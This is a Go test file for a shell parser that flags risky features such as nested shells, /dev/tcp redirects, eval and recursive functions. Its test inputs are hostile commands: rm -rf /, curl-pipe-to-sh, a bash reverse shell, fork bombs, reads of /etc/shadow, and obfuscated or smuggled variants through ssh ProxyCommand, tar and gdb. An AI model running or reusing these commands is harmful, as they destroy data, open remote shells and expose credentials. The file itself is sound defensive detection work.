package facts

import (
	"encoding/json"
	"strings"
	"testing"
)

// c renders one expected command entry; argv0 "" means argv0 == name.
func c(name, argv0 string, args ...string) string {
	if argv0 == "" {
		argv0 = name
	}
	if args == nil {
		args = []string{}
	}
	a, _ := json.Marshal(args)
	return `{"name":` + jsonString(name) + `,"argv0":` + jsonString(argv0) + `,"args":` + string(a) + `,"dynamic":false}`
}

// dyn renders a command entry whose command word is not a literal.
func dyn(src string, args ...string) string {
	return strings.Replace(c(src, src, args...), `"dynamic":false`, `"dynamic":true`, 1)
}

// sh renders the expected shell fact. pipes and redirs are JSON arrays.
// assigned adds the assignments field to a fact built by sh.
func assigned(fact string, assignments ...string) string {
	a, _ := json.Marshal(assignments)
	return `{"assignments":` + string(a) + `,` + strings.TrimPrefix(fact, "{")
}

func sh(cmds []string, pipes, redirs string, features ...string) string {
	if features == nil {
		features = []string{}
	}
	f, _ := json.Marshal(features)
	return `{"ok":true,"commands":[` + strings.Join(cmds, ",") + `],"pipelines":` + pipes +
		`,"redirects":` + redirs + `,"features":` + string(f) + `}`
}

func TestParseShell(t *testing.T) {
	t.Parallel()
	cases := []struct{ name, cmd, want string }{
		{"simple", "ls -la /tmp", sh([]string{c("ls", "", "-la", "/tmp")}, `[]`, `[]`)},
		{"empty quotes in name", "r''m -rf /", sh([]string{c("rm", "", "-rf", "/")}, `[]`, `[]`)},
		{"backslash in name", `\rm -rf ~`, sh([]string{c("rm", "", "-rf", "~")}, `[]`, `[]`)},
		{"quoted path name", `"/bin/r"m -r "a b" 'c'd`, sh([]string{c("rm", "/bin/rm", "-r", "a b", "cd")}, `[]`, `[]`)},
		{"double-quote escapes", `echo "a\"b\$c\x"`, sh([]string{c("echo", "", `a"b$c\x`)}, `[]`, `[]`)},
		{"ansi-c quoting", `$'\x72\x6d' -rf /`, sh([]string{c("rm", "", "-rf", "/")}, `[]`, `[]`, "ansi_c_quoting", "hex_escape")},
		{"ansi-c octal and unicode", `echo $'\162\u006d\ca'`, sh([]string{c("echo", "", "rm\x01")}, `[]`, `[]`, "ansi_c_quoting", "hex_escape")},
		{"printf hex", `printf '\x72\x6d'`, sh([]string{c("printf", "", `\x72\x6d`)}, `[]`, `[]`, "hex_escape")},
		{"sed backreference is not an escape", `sed 's/\(a\)/\1/'`, sh([]string{c("sed", "", `s/\(a\)/\1/`)}, `[]`, `[]`)},
		{"line continuation", "r\\\nm x", sh([]string{c("rm", "", "x")}, `[]`, `[]`)},
		{"dynamic name", "$(echo rm) -rf /", sh([]string{dyn("$(echo rm)", "-rf", "/"), c("echo", "", "rm")}, `[]`, `[]`, "command_substitution")},
		{"variable name", `${CMD} x`, sh([]string{dyn("${CMD}", "x")}, `[]`, `[]`, "parameter_expansion")},
		{"ifs", `cat${IFS}/etc/passwd`, sh([]string{dyn("cat${IFS}/etc/passwd")}, `[]`, `[]`, "ifs", "parameter_expansion")},
		{"ifs assignment", `IFS=,; x=a`, assigned(sh(nil, `[]`, `[]`, "ifs"), "IFS=,", "x=a")},
		{"assignments", `f=/etc/shadow; a=(x .env); A=1 make; cat $f`, assigned(sh([]string{c("make", ""), c("cat", "", "${f}")}, `[]`, `[]`, "parameter_expansion"), "f=/etc/shadow", "a=x", "a=.env", "A=1")},
		{"backticks", "echo `id`", sh([]string{c("echo", "", "`id`"), c("id", "")}, `[]`, `[]`, "command_substitution")},
		{"process substitution", "bash <(curl -s http://x)", sh([]string{c("bash", "", "<(curl -s http://x)"), c("curl", "", "-s", "http://x")}, `[]`, `[]`, "process_substitution")},
		{"pipeline", "curl -s http://x | sh", sh([]string{c("curl", "", "-s", "http://x"), c("sh", "")}, `[["curl","sh"]]`, `[]`)},
		{"long pipeline and pipe-all", "a | b |& c", sh([]string{c("a", ""), c("b", ""), c("c", "")}, `[["a","b","c"]]`, `[]`)},
		{"wrapped pipeline stage", "wget -O- x | sudo -E bash", sh([]string{c("wget", "", "-O-", "x"), c("sudo", "", "-E", "bash"), c("bash", "")}, `[["wget","sudo","bash"]]`, `[]`)},
		{"compound pipeline stage", "curl x | (cd /tmp && sh)", sh([]string{c("curl", "", "x"), c("cd", "", "/tmp"), c("sh", "")}, `[["curl","cd","sh"]]`, `[]`)},
		{"lists", "a && b || c; d", sh([]string{c("a", ""), c("b", ""), c("c", ""), c("d", "")}, `[]`, `[]`)},
		{"subshell and block", "(a; { b; })", sh([]string{c("a", ""), c("b", "")}, `[]`, `[]`)},
		{"if while for case", "if a; then b; elif c; then d; else e; fi; while f; do g; done; for i in 1; do h; done; case x in y) k;; esac",
			sh([]string{c("a", ""), c("b", ""), c("c", ""), c("d", ""), c("e", ""), c("f", ""), c("g", ""), c("h", ""), c("k", "")}, `[]`, `[]`)},
		{"test and arithmetic", "[[ -f x ]] && (( i++ )) && [ -d y ]", sh([]string{c("[", "", "-d", "y", "]")}, `[]`, `[]`)},
		{"declaration", "export PATH=/tmp:$PATH; local x", assigned(sh([]string{c("export", "", "PATH=/tmp:$PATH"), c("local", "", "x")}, `[]`, `[]`, "parameter_expansion"), "PATH=/tmp:${PATH}")},
		{"background", "sleep 10 &", sh([]string{c("sleep", "", "10")}, `[]`, `[]`, "background")},
		{"coproc", "coproc nc -l 80", sh([]string{c("nc", "", "-l", "80")}, `[]`, `[]`, "background")},
		{"redirects", "cat a > /etc/passwd 2>&1 < in >> log &> all", sh([]string{c("cat", "", "a")}, `[]`,
			`[{"op":">","target":"/etc/passwd"},{"op":">&","target":"1"},{"op":"<","target":"in"},{"op":">>","target":"log"},{"op":"&>","target":"all"}]`)},
		{"reverse shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", sh([]string{c("bash", "", "-i")}, `[]`,
			`[{"op":">&","target":"/dev/tcp/10.0.0.1/4444"},{"op":">&","target":"1"}]`, "dev_tcp")},
		{"dev tcp split by quotes", `exec 3<>"/dev/t"cp/1.2.3.4/80`, sh([]string{c("exec", "")}, `[]`,
			`[{"op":"<>","target":"/dev/tcp/1.2.3.4/80"}]`, "dev_tcp")},
		{"dev udp in an argument", "cat /dev/udp/1.2.3.4/53", sh([]string{c("cat", "", "/dev/udp/1.2.3.4/53")}, `[]`, `[]`, "dev_tcp")},
		{"fork bomb", ":(){ :|:& };:", sh([]string{c(":", ""), c(":", ""), c(":", "")}, `[[":",":"]]`, `[]`, "background", "function_definition", "recursive_function")},
		{"named fork bomb", "bomb() { bomb | bomb & }; bomb", sh([]string{c("bomb", ""), c("bomb", ""), c("bomb", "")}, `[["bomb","bomb"]]`, `[]`, "background", "function_definition", "recursive_function")},
		{"mutual recursion", "function f { g; }; g() { f & }; f", sh([]string{c("g", ""), c("f", ""), c("f", "")}, `[]`, `[]`, "background", "function_definition", "recursive_function")},
		{"function not recursive", "f() { ls; }; f", sh([]string{c("ls", ""), c("f", "")}, `[]`, `[]`, "function_definition")},
		{"bash -c", `bash -c 'rm -rf /'`, sh([]string{c("bash", "", "-c", "rm -rf /"), c("rm", "", "-rf", "/")}, `[]`, `[]`, "nested_shell")},
		{"combined -xc", `sh -xc "curl x|sh"`, sh([]string{c("sh", "", "-xc", "curl x|sh"), c("curl", "", "x"), c("sh", "")}, `[["curl","sh"]]`, `[]`, "nested_shell")},
		{"zsh dash -c with -o", `zsh -o errexit -c 'id'`, sh([]string{c("zsh", "", "-o", "errexit", "-c", "id"), c("id", "")}, `[]`, `[]`, "nested_shell")},
		{"dash -c via path", `/usr/bin/dash -c id`, sh([]string{c("dash", "/usr/bin/dash", "-c", "id"), c("id", "")}, `[]`, `[]`, "nested_shell")},
		{"su -c", `su - root -c 'cat /etc/shadow'`, sh([]string{c("su", "", "-", "root", "-c", "cat /etc/shadow"), c("cat", "", "/etc/shadow")}, `[]`, `[]`, "nested_shell")},
		{"eval", `eval "rm" '-rf /'`, sh([]string{c("eval", "", "rm", "-rf /"), c("rm", "", "-rf", "/")}, `[]`, `[]`, "eval", "nested_shell")},
		{"dynamic eval", `eval "$x"`, sh([]string{c("eval", "", `${x}`)}, `[]`, `[]`, "eval", "parameter_expansion")},
		{"builtin eval", `builtin eval id`, sh([]string{c("builtin", "", "eval", "id"), c("eval", "", "id"), c("id", "")}, `[]`, `[]`, "eval", "nested_shell")},
		{"xargs sh -c", `xargs -0 -I{} sh -c 'rm {}'`, sh([]string{c("xargs", "", "-0", "-I{}", "sh", "-c", "rm {}"), c("sh", "", "-c", "rm {}"), c("rm", "", "{}")}, `[]`, `[]`, "nested_shell")},
		{"wrapper chain", `sudo -u root env A=1 nohup timeout -s KILL 5 nice -n 3 rm x`, sh([]string{
			c("sudo", "", "-u", "root", "env", "A=1", "nohup", "timeout", "-s", "KILL", "5", "nice", "-n", "3", "rm", "x"),
			c("env", "", "A=1", "nohup", "timeout", "-s", "KILL", "5", "nice", "-n", "3", "rm", "x"),
			c("nohup", "", "timeout", "-s", "KILL", "5", "nice", "-n", "3", "rm", "x"),
			c("timeout", "", "-s", "KILL", "5", "nice", "-n", "3", "rm", "x"),
			c("nice", "", "-n", "3", "rm", "x"),
			c("rm", "", "x")}, `[]`, `[]`)},
		{"command exec busybox", `command exec busybox rm -rf /`, sh([]string{c("command", "", "exec", "busybox", "rm", "-rf", "/"), c("exec", "", "busybox", "rm", "-rf", "/"), c("busybox", "", "rm", "-rf", "/"), c("rm", "", "-rf", "/")}, `[]`, `[]`)},
		{"dynamic wrapped command", `sudo "$X" -rf /`, sh([]string{c("sudo", "", `${X}`, "-rf", "/"), dyn(`${X}`, "-rf", "/")}, `[]`, `[]`, "parameter_expansion")},
		{"env dash", `env - PATH=/x rm y`, sh([]string{c("env", "", "-", "PATH=/x", "rm", "y"), c("rm", "", "y")}, `[]`, `[]`)},
		{"attached option value", `su -c'id' root`, sh([]string{c("su", "", "-cid", "root"), c("id", "")}, `[]`, `[]`, "nested_shell")},
		{"env split string", `env -S 'rm -rf /'`, sh([]string{c("env", "", "-S", "rm -rf /"), c("rm", "", "-rf", "/")}, `[]`, `[]`, "nested_shell")},
		{"find exec", `find / -name x -exec rm -rf {} \; -execdir chmod 777 {} +`, sh([]string{
			c("find", "", "/", "-name", "x", "-exec", "rm", "-rf", "{}", ";", "-execdir", "chmod", "777", "{}", "+"),
			c("rm", "", "-rf", "{}"), c("chmod", "", "777", "{}")}, `[]`, `[]`)},
		{"trap", `trap 'rm -rf /' EXIT`, sh([]string{c("trap", "", "rm -rf /", "EXIT"), c("rm", "", "-rf", "/")}, `[]`, `[]`, "nested_shell")},
		{"alias", `alias ls='rm -rf /'`, sh([]string{c("alias", "", "ls=rm -rf /"), c("rm", "", "-rf", "/")}, `[]`, `[]`, "nested_shell")},
		// Commands that run their text with sh -c, or run a program operand.
		{"script -qc", `script -qc 'sudo id' /dev/null`, sh([]string{c("script", "", "-qc", "sudo id", "/dev/null"), c("sudo", "", "id"), c("id", "")}, `[]`, `[]`, "nested_shell")},
		{"flock -c", `flock /tmp/l -c 'rm x'`, sh([]string{c("flock", "", "/tmp/l", "-c", "rm x"), c("rm", "", "x")}, `[]`, `[]`, "nested_shell")},
		{"flock program", `flock -w 5 /tmp/l sudo id`, sh([]string{c("flock", "", "-w", "5", "/tmp/l", "sudo", "id"), c("sudo", "", "id"), c("id", "")}, `[]`, `[]`)},
		{"sg text", `sg wheel 'rm x'`, sh([]string{c("sg", "", "wheel", "rm x"), c("rm", "", "x")}, `[]`, `[]`, "nested_shell")},
		{"sg -c", `sg wheel -c 'rm x'`, sh([]string{c("sg", "", "wheel", "-c", "rm x"), c("rm", "", "x")}, `[]`, `[]`, "nested_shell")},
		{"gdb --args", `gdb -batch -ex run --args sudo id`, sh([]string{c("gdb", "", "-batch", "-ex", "run", "--args", "sudo", "id"), c("sudo", "", "id"), c("id", "")}, `[]`, `[]`)},
		{"gdb program operand", `gdb -ex run /usr/bin/sudo`, sh([]string{c("gdb", "", "-ex", "run", "/usr/bin/sudo"), c("sudo", "/usr/bin/sudo")}, `[]`, `[]`)},
		{"gdb shell escapes", `gdb -q -ex 'shell rm x' -ex '!id' -ex quit`, sh([]string{c("gdb", "", "-q", "-ex", "shell rm x", "-ex", "!id", "-ex", "quit"), c("rm", "", "x"), c("id", "")}, `[]`, `[]`, "nested_shell")},
		{"gdb eval-command attached", `gdb --eval-command='shell rm x'`, sh([]string{c("gdb", "", "--eval-command=shell rm x"), c("rm", "", "x")}, `[]`, `[]`, "nested_shell")},
		{"gdb shell abbreviated", `gdb -ex 'she rm x'`, sh([]string{c("gdb", "", "-ex", "she rm x"), c("rm", "", "x")}, `[]`, `[]`, "nested_shell")},
		{"gdb python", `gdb -batch -ex 'python import os; os.system("id")'`, sh([]string{c("gdb", "", "-batch", "-ex", `python import os; os.system("id")`)}, `[]`, `[]`, "eval")},
		{"gdb pipe", `gdb -ex '| print 1 | sh'`, sh([]string{c("gdb", "", "-ex", "| print 1 | sh")}, `[]`, `[]`, "eval")},
		{"gdb plain commands", `gdb -batch -ex run -ex bt ./app`, sh([]string{c("gdb", "", "-batch", "-ex", "run", "-ex", "bt", "./app"), c("app", "./app")}, `[]`, `[]`)},
		// Options whose value a command runs, and commands fed on stdin.
		{"tar checkpoint action", `tar cf x.tar --checkpoint-action=exec='rm x' src`, sh([]string{c("tar", "", "cf", "x.tar", "--checkpoint-action=exec=rm x", "src"), c("rm", "", "x")}, `[]`, `[]`, "nested_shell")},
		{"tar to-command", `tar xf a.tar --to-command 'rm x'`, sh([]string{c("tar", "", "xf", "a.tar", "--to-command", "rm x"), c("rm", "", "x")}, `[]`, `[]`, "nested_shell")},
		{"tar checkpoint other action", `tar cf x.tar --checkpoint-action=dot src`, sh([]string{c("tar", "", "cf", "x.tar", "--checkpoint-action=dot", "src")}, `[]`, `[]`)},
		{"rsync combined -e", `rsync -avze 'rm x' a b:`, sh([]string{c("rsync", "", "-avze", "rm x", "a", "b:"), c("rm", "", "x")}, `[]`, `[]`, "nested_shell")},
		{"ssh ProxyCommand", `ssh -o 'ProxyCommand rm x' h`, sh([]string{c("ssh", "", "-o", "ProxyCommand rm x", "h"), c("rm", "", "x")}, `[]`, `[]`, "nested_shell")},
		{"ssh attached ProxyCommand", `ssh -oproxycommand='rm x' h`, sh([]string{c("ssh", "", "-oproxycommand=rm x", "h"), c("rm", "", "x")}, `[]`, `[]`, "nested_shell")},
		{"ssh dynamic ProxyCommand", `ssh -o ProxyCommand="$X" h`, sh([]string{c("ssh", "", "-o", "ProxyCommand=${X}", "h")}, `[]`, `[]`, "eval", "parameter_expansion")},
		{"ssh ProxyCommand after another -o", `ssh -o StrictHostKeyChecking=no -o 'ProxyCommand rm x' h`, sh([]string{c("ssh", "", "-o", "StrictHostKeyChecking=no", "-o", "ProxyCommand rm x", "h"), c("rm", "", "x")}, `[]`, `[]`, "nested_shell")},
		{"ssh other option", `ssh -o StrictHostKeyChecking=no h id`, sh([]string{c("ssh", "", "-o", "StrictHostKeyChecking=no", "h", "id")}, `[]`, `[]`)},
		{"at heredoc", "at now <<EOF\nrm x\nEOF", sh([]string{c("at", "", "now"), c("rm", "", "x")}, `[]`, `[{"op":"<<","target":"EOF"}]`, "nested_shell")},
		{"at from a pipe", `echo 'rm x' | at now`, sh([]string{c("echo", "", "rm x"), c("at", "", "now"), c("rm", "", "x")}, `[["echo","at"]]`, `[]`, "nested_shell")},
		{"at -f file", `echo 'rm x' | at -f job.sh now`, sh([]string{c("echo", "", "rm x"), c("at", "", "-f", "job.sh", "now")}, `[["echo","at"]]`, `[]`)},
		// Every value of a repeated option counts: a command may use the last one.
		{"su -c twice", `su -c true -c 'rm x'`, sh([]string{c("su", "", "-c", "true", "-c", "rm x"), c("true", ""), c("rm", "", "x")}, `[]`, `[]`, "nested_shell")},
		{"tar to-command twice", `tar xf a.tar --to-command=true --to-command='rm x'`, sh([]string{c("tar", "", "xf", "a.tar", "--to-command=true", "--to-command=rm x"), c("true", ""), c("rm", "", "x")}, `[]`, `[]`, "nested_shell")},
		{"ssh grouped -o", `ssh -vo 'ProxyCommand rm x' h`, sh([]string{c("ssh", "", "-vo", "ProxyCommand rm x", "h"), c("rm", "", "x")}, `[]`, `[]`, "nested_shell")},
		{"gdb dynamic command", `gdb -ex "$X"`, sh([]string{c("gdb", "", "-ex", "${X}")}, `[]`, `[]`, "eval", "parameter_expansion")},
		{"valgrind", `valgrind --tool=none sudo id`, sh([]string{c("valgrind", "", "--tool=none", "sudo", "id"), c("sudo", "", "id"), c("id", "")}, `[]`, `[]`)},
		{"watch", `watch -n 1 'id; ls'`, sh([]string{c("watch", "", "-n", "1", "id; ls"), c("id", ""), c("ls", "")}, `[]`, `[]`, "nested_shell")},
		// Shell text built at run time is flagged like eval of such text.
		{"bash -c variable", `bash -c "$CMD"`, sh([]string{c("bash", "", "-c", "${CMD}")}, `[]`, `[]`, "eval", "parameter_expansion")},
		{"sh -c backticks", "sh -c \"`printf 'rm -rf /'`\"", sh([]string{c("sh", "", "-c", "`printf 'rm -rf /'`"), c("printf", "", "rm -rf /")}, `[]`, `[]`, "command_substitution", "eval")},
		{"bash -c substitution", `bash -c "$(cat /tmp/x)"`, sh([]string{c("bash", "", "-c", "$(cat /tmp/x)"), c("cat", "", "/tmp/x")}, `[]`, `[]`, "command_substitution", "eval")},
		{"su -c variable", `su -c "$X" root`, sh([]string{c("su", "", "-c", "${X}", "root")}, `[]`, `[]`, "eval", "parameter_expansion")},
		{"su attached -c variable", `su -c"$X" root`, sh([]string{c("su", "", "-c${X}", "root")}, `[]`, `[]`, "eval", "parameter_expansion")},
		{"runuser -c variable", `runuser -u bob -c "$X"`, sh([]string{c("runuser", "", "-u", "bob", "-c", "${X}")}, `[]`, `[]`, "eval", "parameter_expansion")},
		{"env -S variable", `env -S "$X"`, sh([]string{c("env", "", "-S", "${X}")}, `[]`, `[]`, "eval", "parameter_expansion")},
		{"watch variable", `watch -n 1 "$X"`, sh([]string{c("watch", "", "-n", "1", "${X}")}, `[]`, `[]`, "eval", "parameter_expansion")},
		{"trap variable", `trap "$X" EXIT`, sh([]string{c("trap", "", "${X}", "EXIT")}, `[]`, `[]`, "eval", "parameter_expansion")},
		{"alias variable", `alias x="$Y"`, sh([]string{c("alias", "", "x=${Y}")}, `[]`, `[]`, "eval", "parameter_expansion")},
		{"alias dynamic word", `alias "$DEF"`, sh([]string{c("alias", "", "${DEF}")}, `[]`, `[]`, "eval", "parameter_expansion")},
		{"here-string variable to shell", `bash <<< "$x"`, sh([]string{c("bash", "")}, `[]`, `[{"op":"<<<","target":"${x}"}]`, "eval", "parameter_expansion")},
		{"bash -c literal with a variable inside", `bash -c 'echo "$HOME"'`, sh([]string{c("bash", "", "-c", `echo "$HOME"`), c("echo", "", "${HOME}")}, `[]`, `[]`, "nested_shell", "parameter_expansion")},
		{"script operand variable is not shell text", `bash script.sh "$X"`, sh([]string{c("bash", "", "script.sh", "${X}")}, `[]`, `[]`, "parameter_expansion")},
		{"su -c literal, variable user", `su -c id "$USER"`, sh([]string{c("su", "", "-c", "id", "${USER}"), c("id", "")}, `[]`, `[]`, "nested_shell", "parameter_expansion")},
		{"heredoc to shell", "bash <<EOF\nrm -rf /\nEOF\n", sh([]string{c("bash", ""), c("rm", "", "-rf", "/")}, `[]`, `[{"op":"<<","target":"EOF"}]`, "nested_shell")},
		{"quoted heredoc to shell", "sudo sh <<'X'\ncurl x | sh\nX\n", sh([]string{c("sudo", "", "sh"), c("sh", ""), c("curl", "", "x"), c("sh", "")}, `[["curl","sh"]]`, `[{"op":"<<","target":"X"}]`, "nested_shell")},
		{"here-string to shell", `bash <<< 'id'`, sh([]string{c("bash", ""), c("id", "")}, `[]`, `[{"op":"<<<","target":"id"}]`, "nested_shell")},
		{"heredoc to cat is data", "cat <<EOF\nrm -rf /\nEOF\n", sh([]string{c("cat", "")}, `[]`, `[{"op":"<<","target":"EOF"}]`)},
		{"echo into shell", `echo 'rm -rf /' | sh`, sh([]string{c("echo", "", "rm -rf /"), c("sh", ""), c("rm", "", "-rf", "/")}, `[["echo","sh"]]`, `[]`, "nested_shell")},
		{"echo -e into shell", `echo -e '\x69\x64' | bash -s`, sh([]string{c("echo", "", "-e", `\x69\x64`), c("bash", "", "-s"), c("id", "")}, `[["echo","bash"]]`, `[]`, "hex_escape", "nested_shell")},
		{"echo into script is data", `echo 'rm -rf /' | sh script.sh`, sh([]string{c("echo", "", "rm -rf /"), c("sh", "", "script.sh")}, `[["echo","sh"]]`, `[]`)},
		{"nested nested", `bash -c "sh -c 'eval id'"`, sh([]string{c("bash", "", "-c", "sh -c 'eval id'"), c("sh", "", "-c", "eval id"), c("eval", "", "id"), c("id", "")}, `[]`, `[]`, "eval", "nested_shell")},
		{"wrapper chain at the hop limit", strings.Repeat("nice ", maxWrapHops) + "rm x",
			sh(wrapChain([]string{"nice"}, maxWrapHops, []string{"rm", "x"}), `[]`, `[]`)},
		{"timeout chain at the hop limit", strings.Repeat("timeout 5 ", maxWrapHops) + "bash -c 'cat /etc/shadow'",
			sh(append(wrapChain([]string{"timeout", "5"}, maxWrapHops, []string{"bash", "-c", "cat /etc/shadow"}),
				c("cat", "", "/etc/shadow")), `[]`, `[]`, "nested_shell")},
		{"find -exec chain at the hop limit", strings.Repeat("find -exec ", maxWrapHops) + "rm x",
			sh(wrapChain([]string{"find", "-exec"}, maxWrapHops, []string{"rm", "x"}), `[]`, `[]`)},
		{"empty", "", sh(nil, `[]`, `[]`)},
		{"comment only", "# rm -rf /", sh(nil, `[]`, `[]`)},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			assertTerm(t, ParseShell(tc.cmd).Term(), tc.want)
		})
	}
}

func TestParseShellRefusals(t *testing.T) {
	t.Parallel()
	deep := "id"
	for range maxShellDepth + 1 {
		deep = "bash -c " + shellQuote(deep)
	}
	cases := []struct{ name, cmd, err string }{
		{"syntax error", "(", "parse shell: 1:1: `(` must be followed by a statement list"},
		{"unterminated quote", "echo 'x", "parse shell: 1:6: reached EOF without closing quote `'`"},
		{"nested syntax error", `bash -c 'if'`, "parse nested shell text: 1:1: `if` must be followed by a statement list"},
		{"too deep", deep, "shell text nested more than 4 levels deep"},
		{"too long", strings.Repeat("a", maxShellBytes+1), "shell text longer than 65536 bytes"},
		{"too many commands", strings.Repeat("a;", maxShellCommands+1), "more than 1024 commands"},
		{"too many wrappers", strings.Repeat("nice ", maxWrapHops+1) + "rm x", "more than 8 nested wrapper commands"},
		{"too many assignments", strings.Repeat("a=1;", maxAssignments+1), "more than 1024 variable assignments"},
		{"too many timeouts around a shell", strings.Repeat("timeout 5 ", maxWrapHops+1) + "bash -c 'cat /etc/shadow'",
			"more than 8 nested wrapper commands"},
		{"too many wrappers in a pipeline", "echo id | " + strings.Repeat("nice ", maxWrapHops+1) + "sh",
			"more than 8 nested wrapper commands"},
		{"too many find -exec", strings.Repeat("find -exec ", maxWrapHops+1) + "rm x", "more than 8 nested wrapper commands"},
		{"too much nested text", overBudget(), "nested shell text exceeds 262144 bytes in total"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			assertTerm(t, ParseShell(tc.cmd).Term(), `{"ok":false,"error":`+jsonString(tc.err)+`}`)
		})
	}
}

// wrapChain renders the entries of n wrappers, each the words of prefix,
// around the command inner: every wrapper is listed with the rest of the
// chain as its arguments, then inner itself.
func wrapChain(prefix []string, n int, inner []string) []string {
	var words []string
	for range n {
		words = append(words, prefix...)
	}
	words = append(words, inner...)
	var cmds []string
	for i := 0; i < n; i++ {
		rest := words[i*len(prefix):]
		cmds = append(cmds, c(rest[0], "", rest[1:]...))
	}
	return append(cmds, c(inner[0], "", inner[1:]...))
}

// overBudget is shell text within maxShellBytes and maxShellDepth whose
// nested `bash -c` levels together exceed maxShellTotalBytes: each level
// holds the next one, and the innermost is a long comment.
func overBudget() string {
	s := "#" + strings.Repeat("a", maxShellBytes-1000)
	for range maxShellDepth {
		s = "bash -c " + shellQuote(s)
	}
	if len(s) > maxShellBytes || (maxShellDepth+1)*len(s) <= maxShellTotalBytes {
		panic("overBudget: bad sizes")
	}
	return s
}

// shellQuote wraps s in single quotes for a POSIX shell.
func shellQuote(s string) string {
	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
}

func TestDecodeANSIC(t *testing.T) {
	t.Parallel()
	cases := map[string]string{
		`plain`:            "plain",
		`\x41\x4a`:         "AJ",
		`\x4`:              "\x04",
		`\xZ`:              `\xZ`,
		`\101\0`:           "A\x00",
		`\u00e9\U0001F600`: "é😀",
		`\n\t\\\'\"\?\e`:   "\n\t\\'\"?\x1b",
		`\cA\q`:            "\x01\\q",
		`trailing\`:        `trailing\`,
	}
	for in, want := range cases {
		if got := decodeANSIC(in); got != want {
			t.Errorf("decodeANSIC(%q) = %q, want %q", in, got, want)
		}
	}
}
